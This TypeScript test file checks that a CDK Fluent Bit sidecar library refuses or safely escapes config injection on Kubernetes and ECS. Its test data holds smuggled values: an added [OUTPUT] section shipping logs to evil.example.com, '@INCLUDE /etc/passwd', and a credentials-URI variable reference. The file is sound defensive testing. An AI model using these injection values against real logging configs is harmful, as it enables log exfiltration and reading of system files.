/**
 * No user value (nor a construct id) reaches a Fluent Bit configuration unescaped: every case
 * either renders a file that Fluent Bit's own reading rules (test/validate/fluent-bit.ts, which
 * follows src/config_format/flb_cf_fluentbit.c) parse back to the value given, or is refused
 * with a catalogued error naming the construct path, the prop and the value.
 */
import * as kplus from 'cdk8s-plus-27';
import * as fc from 'fast-check';
import * as YAML from 'yaml';
import { FluentBitConfigFormat, FluentBitFilter, FluentBitOutput, FluentBitSidecar, FluentBitSidecarProps } from '../../src';
import { ErrorCode, SidecarError } from '../../src/core/errors';
import { checkFluentBitValue, classicEntry, configComment, modifyRule } from '../../src/core/escape-fluent-bit';
import { TaskSidecars } from '../../src/ecs';
import { WorkloadSidecars } from '../../src/k8s';
import { container, fargateTask, synthTemplate } from '../ecs/util';
import { expectError } from '../errors';
import { findDoc, newChart, synth } from '../k8s/util';
import { parseClassicDocument, splitModifyRule, validateFluentBitClassic, validateFluentBitYaml } from '../validate/fluent-bit';

const EVIL_SECTION = '\n[OUTPUT]\n    name http\n    host evil.example.com\n    match *';
const EVIL_INCLUDE = '\n@INCLUDE /etc/passwd';

/** Synthesizes on Kubernetes; returns the Fluent Bit file the sidecar loads. */
function onKubernetes(props: Partial<FluentBitSidecarProps>, id = 'logs'): string {
  const chart = newChart();
  const d = new kplus.Deployment(chart, 'api', { containers: [{ name: 'api', image: 'ghcr.io/acme/api:1', portNumber: 8080 }] });
  WorkloadSidecars.of(d).add(new FluentBitSidecar(chart, id, { outputs: [FluentBitOutput.stdout()], ...props }));
  const docs = synth(chart);
  findDoc(docs, 'Deployment');
  const cm = docs.find(x => x.kind === 'ConfigMap' && x.metadata.name.endsWith('fluent-bit-config'));
  return cm.data['fluent-bit.conf'] ?? cm.data['fluent-bit.yaml'];
}

/** Synthesizes on ECS (FireLens, default format); returns the pipeline.conf FireLens includes. */
function onEcs(props: Partial<FluentBitSidecarProps>, id = 'logs'): string {
  const f = fargateTask();
  TaskSidecars.of(f.td).add(new FluentBitSidecar(f.stack, id, { outputs: [FluentBitOutput.stdout()], ...props }));
  const t = synthTemplate(f.stack);
  const writer = container(t, 'cdk-sidecars-config');
  const variable = /"\$(CDK_SIDECARS_FILE_\d+)" \| base64 -d > '\/cdk-sidecars\/fluent-bit-config\/pipeline.conf'/.exec(writer.Command[0])![1];
  return Buffer.from(writer.Environment.find((e: any) => e.Name === variable).Value, 'base64').toString();
}

const CASES: Array<[string, Partial<FluentBitSidecarProps>, string]> = [
  ['a modify value', { filters: [FluentBitFilter.modify({ add: { env: `prod${EVIL_SECTION}` } })] }, 'filters[0].add["env"]'],
  ['a modify key', { filters: [FluentBitFilter.modify({ add: { [`env${EVIL_INCLUDE}`]: 'prod' } })] }, 'filters[0].add'],
  ['a modify rename target', { filters: [FluentBitFilter.modify({ rename: { msg: `log${EVIL_SECTION}` } })] }, 'filters[0].rename["msg"]'],
  ['a modify remove', { filters: [FluentBitFilter.modify({ remove: [`password${EVIL_INCLUDE}`] })] }, 'filters[0].remove[0]'],
  ['a grep regex', { filters: [FluentBitFilter.grep({ exclude: { log: `healthz${EVIL_SECTION}` } })] }, 'filters[0].exclude["log"]'],
  ['a grep key', { filters: [FluentBitFilter.grep({ regex: { [`log${EVIL_INCLUDE}`]: 'x' } })] }, 'filters[0].regex'],
  ['an Elasticsearch index', { outputs: [FluentBitOutput.elasticsearch({ host: 'es', index: `logs${EVIL_INCLUDE}` })] }, 'outputs[0].index'],
  ['a Loki label value', { outputs: [FluentBitOutput.loki({ host: 'loki', labels: { app: `shop${EVIL_SECTION}` } })] }, 'outputs[0].labels["app"]'],
  ['a Loki label name', { outputs: [FluentBitOutput.loki({ host: 'loki', labels: { [`app${EVIL_INCLUDE}`]: 'shop' } })] }, 'outputs[0].labels'],
  ['a CloudWatch region', { outputs: [FluentBitOutput.cloudWatchLogs({ region: `eu-west-1${EVIL_SECTION}`, logGroupName: '/shop' })] }, 'outputs[0].region'],
  ['a CloudWatch log group', { outputs: [FluentBitOutput.cloudWatchLogs({ region: 'eu-west-1', logGroupName: `/shop${EVIL_INCLUDE}` })] }, 'outputs[0].logGroupName'],
  ['a CloudWatch stream prefix', { outputs: [FluentBitOutput.cloudWatchLogs({ region: 'eu-west-1', logGroupName: '/shop', logStreamPrefix: `api-${EVIL_SECTION}` })] }, 'outputs[0].logStreamPrefix'],
  ['an S3 bucket', { outputs: [FluentBitOutput.s3({ bucket: `logs${EVIL_SECTION}`, region: 'eu-west-1' })] }, 'outputs[0].bucket'],
  ['an HTTP uri', { outputs: [FluentBitOutput.http({ host: 'collector', uri: `/in${EVIL_INCLUDE}` })] }, 'outputs[0].uri'],
  ['an HTTP format', { outputs: [FluentBitOutput.http({ host: 'collector', format: `json${EVIL_SECTION}` })] }, 'outputs[0].format'],
  ['a carriage return', { outputs: [FluentBitOutput.http({ host: 'collector', uri: '/in\r@INCLUDE /etc/passwd' })] }, 'outputs[0].uri'],
  ['an environment variable', { outputs: [FluentBitOutput.http({ host: 'collector', uri: '/in/${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI}' })] }, 'outputs[0].uri'],
  ['trailing whitespace Fluent Bit would trim', { outputs: [FluentBitOutput.elasticsearch({ host: 'es', index: 'logs ' })] }, 'outputs[0].index'],
];

describe.each<[string, (p: Partial<FluentBitSidecarProps>) => string]>([
  ['Kubernetes, classic format', p => onKubernetes({ configFormat: FluentBitConfigFormat.CLASSIC, ...p })],
  ['Kubernetes, YAML format', p => onKubernetes(p)],
  ['ECS, FireLens pipeline.conf', p => onEcs(p)],
])('injection into the Fluent Bit config on %s is refused', (_platform, render) => {
  test.each(CASES)('%s', (_case, props, field) => {
    const error = expectError(() => render(props), ErrorCode.UNREPRESENTABLE_VALUE, `logs: ${field}`);
    expect(error.message).toContain('cannot be written to the Fluent Bit classic format');
  });
});

describe('values Fluent Bit reads back exactly', () => {
  const props: Partial<FluentBitSidecarProps> = {
    filters: [
      FluentBitFilter.modify({ add: { 'my key': 'a value with "quotes" and \\ spaces', '@team': '[platform] #1' }, remove: ['old key'], rename: { 'log msg': 'message' } }),
      FluentBitFilter.grep({ regex: { log: '^[0-9]+ (GET|POST) #x @y' } }),
    ],
    outputs: [FluentBitOutput.elasticsearch({ host: 'es', index: '@logs-[app]' }), FluentBitOutput.loki({ host: 'loki', labels: { app: '$kubernetes[\'labels\'][\'app\']', team: 'a b' } })],
  };
  const check = (sections: Array<{ name: string; entries: Array<[string, string]> }>) => {
    expect(sections.map(s => s.name)).toEqual(expect.arrayContaining(['INPUT', 'FILTER', 'FILTER', 'OUTPUT', 'OUTPUT']));
    const [modify, grep] = sections.filter(s => s.name === 'FILTER');
    expect(modify.entries.filter(([k]) => k !== 'name' && k !== 'match').map(([k, v]) => [k, ...splitModifyRule(v)])).toEqual([
      ['add', 'my key', 'a value with "quotes" and \\ spaces'], ['add', '@team', '[platform] #1'], ['remove', 'old key'], ['rename', 'log msg', 'message'],
    ]);
    expect(grep.entries).toContainEqual(['regex', 'log ^[0-9]+ (GET|POST) #x @y']);
    const [es, loki] = sections.filter(s => s.name === 'OUTPUT');
    expect(es.entries).toContainEqual(['index', '@logs-[app]']);
    expect(loki.entries).toContainEqual(['labels', 'app=$kubernetes[\'labels\'][\'app\'], team=a b']);
  };
  test('Kubernetes, classic format', () => check(validateFluentBitClassic(onKubernetes({ configFormat: FluentBitConfigFormat.CLASSIC, ...props }))));
  test('ECS, FireLens pipeline.conf', () => check(validateFluentBitClassic(onEcs(props))));
  test('Kubernetes, YAML format', () => {
    const doc = validateFluentBitYaml(onKubernetes(props));
    expect(doc.pipeline.filters[0].add.map(splitModifyRule)).toEqual([['my key', 'a value with "quotes" and \\ spaces'], ['@team', '[platform] #1']]);
    expect(doc.pipeline.outputs[0].index).toBe('@logs-[app]');
  });
});

describe('values the Fluent Bit plugins would split are refused', () => {
  test.each<[string, Partial<FluentBitSidecarProps>, ErrorCode, string]>([
    // grep splits its value at the first space, without quotes (plugins/filter_grep/grep.c, flb_utils_split)
    ['a grep key with a space', { filters: [FluentBitFilter.grep({ regex: { 'my key': 'x' } })] }, ErrorCode.UNREPRESENTABLE_VALUE, 'filters[0].regex "my key" cannot be written to a grep filter rule'],
    // loki reads labels as a comma-separated list of name=value (plugins/out_loki/loki.c, FLB_CONFIG_MAP_CLIST)
    ['a Loki label value with a comma', { outputs: [FluentBitOutput.loki({ host: 'loki', labels: { app: 'shop,team=evil' } })] }, ErrorCode.UNREPRESENTABLE_VALUE, 'outputs[0].labels["app"]'],
    ['a Loki label name that is not a label name', { outputs: [FluentBitOutput.loki({ host: 'loki', labels: { 'my app': 'shop' } })] }, ErrorCode.UNREPRESENTABLE_VALUE, 'outputs[0].labels "my app" cannot be written to Loki\'s labels setting'],
    // the bucket name also goes into the IAM policy: "*" would grant every bucket
    ['an S3 bucket that is not a bucket name', { outputs: [FluentBitOutput.s3({ bucket: '*', region: 'eu-west-1' })] }, ErrorCode.INVALID_NAME, 'outputs[0].bucket "*"'],
  ])('%s', (_case, props, code, part) => {
    expectError(() => onKubernetes(props), code, `logs: ${part}`);
    expectError(() => onEcs(props), code, `logs: ${part}`);
  });
});

describe('construct ids in comments cannot add a line', () => {
  const id = `logs${EVIL_SECTION}${EVIL_INCLUDE}\u2028sku: Premium`;
  test('Kubernetes, classic format', () => {
    const text = onKubernetes({ configFormat: FluentBitConfigFormat.CLASSIC }, id);
    expect(validateFluentBitClassic(text).map(s => s.name)).toEqual(['SERVICE', 'INPUT', 'OUTPUT']);
    // the id is written escaped in the comment ('/' in an id becomes '--' in the construct path)
    expect(text.split('\n')[0]).toContain('logs\\u000a[OUTPUT]\\u000a    name http');
    expect(text.split('\n')[0]).toContain('\\u2028sku: Premium');
  });
  test('Kubernetes, YAML format', () => {
    const text = onKubernetes({}, id);
    const doc = validateFluentBitYaml(text);
    expect(Object.keys(doc)).toEqual(['service', 'pipeline']);
    expect(doc.pipeline.outputs).toHaveLength(1);
    // YAML 1.2 readers agree
    expect(Object.keys(YAML.parse(text, { version: '1.2' }))).toEqual(['service', 'pipeline']);
  });
  test('ECS, FireLens pipeline.conf', () => {
    const doc = parseClassicDocument(onEcs({}, id));
    expect(doc.directives).toEqual([]);
    expect(doc.sections.map(s => s.name)).toEqual(['SERVICE', 'INPUT', 'OUTPUT']);
  });
});

/** Strings built from the characters and fragments that matter to the classic format. */
const hostile = fc.array(fc.oneof(
  fc.constantFrom('\n', '\r', '\r\n', '\t', '\v', '\f', '\0', '\u0085', '\u2028', ' ', '  ', '#', '[', ']', '@', '@INCLUDE /etc/passwd', '@SET a=b', '[OUTPUT]',
    '${', '${HOME}', '}', '"', '\'', '\\', '=', ',', ':', 'é', 'a', 'key value', '    name http'),
  fc.string(),
), { maxLength: 8 }).map(parts => parts.join(''));

/** The same without what is refused (control characters, "${", surrounding whitespace): always accepted. */
const printable = hostile
  .map(v => {
    let out = v.replace(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g, '');
    while (out.includes('${')) { out = out.split('${').join('$'); }
    return out.trim();
  })
  .filter(v => v.length > 0);

describe('properties of the classic writer', () => {
  test('directives, headers, comments and quotes inside a value are accepted and read back as data', () => {
    fc.assert(fc.property(printable, value => {
      const text = ['[OUTPUT]', classicEntry('p', 'f', 'name', 'es'), classicEntry('p', 'f', 'index', value), ''].join('\n');
      expect(parseClassicDocument(text)).toEqual({ sections: [{ name: 'OUTPUT', entries: [['name', 'es'], ['index', value]] }], directives: [], groups: [] });
    }), { numRuns: 1000 });
  });


  test('any accepted value parses back to exactly itself, in the same section, adding no section, directive, group or key', () => {
    fc.assert(fc.property(hostile, value => {
      let line: string;
      try { line = classicEntry('p', 'f', 'index', value); } catch (e) {
        expect((e as SidecarError).code).toBe(ErrorCode.UNREPRESENTABLE_VALUE);
        expect((e as Error).message).toContain(`p: f ${JSON.stringify(value)} cannot be written`);
        return;
      }
      const text = [configComment(`for ${value}`), '[OUTPUT]', classicEntry('p', 'f', 'name', 'es'), line, classicEntry('p', 'f', 'match', '*'), ''].join('\n');
      const doc = parseClassicDocument(text);
      expect(doc.directives).toEqual([]);
      expect(doc.groups).toEqual([]);
      expect(doc.sections).toEqual([{ name: 'OUTPUT', entries: [['name', 'es'], ['index', value], ['match', '*']] }]);
    }), { numRuns: 2000 });
  });

  test('a comment stays one line whatever its text', () => {
    fc.assert(fc.property(hostile, text => {
      const doc = parseClassicDocument(`${configComment(text)}\n`);
      expect(doc).toEqual({ sections: [], directives: [], groups: [] });
      expect(YAML.parse(`${configComment(text)}\na: 1\n`, { version: '1.1' })).toEqual({ a: 1 });
    }), { numRuns: 1000 });
  });

  test('modify rules split back into the tokens given', () => {
    fc.assert(fc.property(fc.array(hostile, { minLength: 1, maxLength: 2 }), tokens => {
      expect(splitModifyRule(modifyRule(tokens))).toEqual(tokens);
    }), { numRuns: 1000 });
  });

  test('a sidecar with hostile values renders files that parse back, or is refused by the catalogue', () => {
    fc.assert(fc.property(hostile, hostile, hostile, (index, addValue, uri) => {
      let sidecar: FluentBitSidecar;
      try {
        sidecar = new FluentBitSidecar(newChart(), 'logs', {
          configFormat: FluentBitConfigFormat.CLASSIC,
          outputs: [FluentBitOutput.elasticsearch({ host: 'es', index }), FluentBitOutput.http({ host: 'h', uri })],
          filters: [FluentBitFilter.modify({ add: { k: addValue } })],
        });
      } catch (e) {
        expect(e).toBeInstanceOf(SidecarError);
        expect((e as Error).message).toMatch(/^web\/logs: (outputs\[0\]\.index|outputs\[1\]\.uri|filters\[0\]\.add\["k"\]) /);
        return;
      }
      const files = (sidecar.contribute({ targetPath: 'web/api', appContainers: [] }).volumes ?? [])[0].files!;
      const sections = validateFluentBitClassic(files.find(f => f.name === 'fluent-bit.conf')!.content);
      expect(sections.find(s => s.entries.some(([k, v]) => k === 'name' && v === 'es'))!.entries).toContainEqual(['index', index]);
      expect(sections.find(s => s.entries.some(([k, v]) => k === 'name' && v === 'http'))!.entries).toContainEqual(['uri', uri]);
      const modify = sections.find(s => s.entries.some(([k, v]) => k === 'name' && v === 'modify'))!;
      expect(splitModifyRule(modify.entries.find(([k]) => k === 'add')![1])).toEqual(['k', addValue]);
      checkFluentBitValue('p', 'f', index);
      // the YAML format (written with the yaml library) carries the same values
      const yamlSidecar = new FluentBitSidecar(newChart(), 'logs', {
        outputs: [FluentBitOutput.elasticsearch({ host: 'es', index }), FluentBitOutput.http({ host: 'h', uri })],
        filters: [FluentBitFilter.modify({ add: { k: addValue } })],
      });
      const yamlFile = (yamlSidecar.contribute({ targetPath: 'web/api', appContainers: [] }).volumes ?? [])[0].files![0].content;
      for (const version of ['1.1', '1.2'] as const) {
        const doc = version === '1.1' ? validateFluentBitYaml(yamlFile) : YAML.parse(yamlFile, { version });
        expect(doc.pipeline.outputs[0].index).toBe(index);
        expect(doc.pipeline.outputs[1].uri).toBe(uri);
        expect(splitModifyRule(doc.pipeline.filters[0].add)).toEqual(['k', addValue]);
      }
    }), { numRuns: 150 });
  });
});
